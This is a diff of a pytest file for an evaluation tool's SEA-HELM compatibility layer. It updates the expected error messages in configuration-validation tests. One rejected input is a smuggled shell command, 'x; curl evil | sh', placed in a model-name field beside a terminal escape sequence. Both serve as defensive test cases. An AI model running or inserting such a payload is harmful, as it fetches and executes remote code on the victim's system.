@@ -15,7 +15,7 @@ import pytest
 
 from compat.sea_helm.sea_results import rows_of, task, write_results
 from evalwright.cli import main
-from evalwright.compat.sea_helm.judges import judges_of
+from evalwright.compat.sea_helm.judging import judges_of
 from evalwright.compat.sea_helm.oneruler import oneruler_rows
 from evalwright.compat.sea_helm.task import SeaTask
 from evalwright.core.errors import ConfigurationError, DatasetError, ScoringError, TaskError
@@ -44,12 +44,15 @@ def _run(root: Path, *more: str, name: str = "colours/id") -> int:
 @pytest.mark.parametrize(
     ("more", "said"),
     [
-        ({"metadata": 5}, "`metadata`"),
-        ({"labels": 5}, "`labels`"),
-        ({"dataloader_class": "X"}, "dataloader_file"),
-        ({"max_n_runs": "8"}, "`max_n_runs`"),
-        ({"fewshot_num_examples": {"instruct": -5}}, "`instruct`"),
-        ({"languages": {"id": {**task("c", "id")["languages"]["id"], "max_tokens": 10**30}}}, "`max_tokens`"),
+        ({"metadata": 5}, "`colours.metadata` must be a mapping"),
+        ({"labels": 5}, "`colours.labels`"),
+        ({"dataloader_class": "X"}, "which is not known here"),
+        ({"max_n_runs": "8"}, "`colours.max_n_runs`"),
+        ({"fewshot_num_examples": {"instruct": -5}}, "fewshot_num_examples.instruct`"),
+        (
+            {"languages": {"id": {**task("c", "id")["languages"]["id"], "max_tokens": 10**30}}},
+            "id.max_tokens`",
+        ),
         (
             {"languages": {"id": {**task("c", "id")["languages"]["id"], "filepath": "x" * 5000}}},
             "is not a file",
@@ -131,7 +134,6 @@ def test_an_image_that_is_none_fails_alone(own_folder: Path) -> None:
         {"judge_generation_kwargs": 5},
         {"judge_generation_kwargs": {"max_tokens": "abc"}},
         {"judge_generation_kwargs": {"temperature": float("nan")}},
-        {"judge_init_args": 5},
         {"judge_model_name": "x; curl evil | sh"},
         {"judge_model_name": "x\x1b[2J"},
     ],
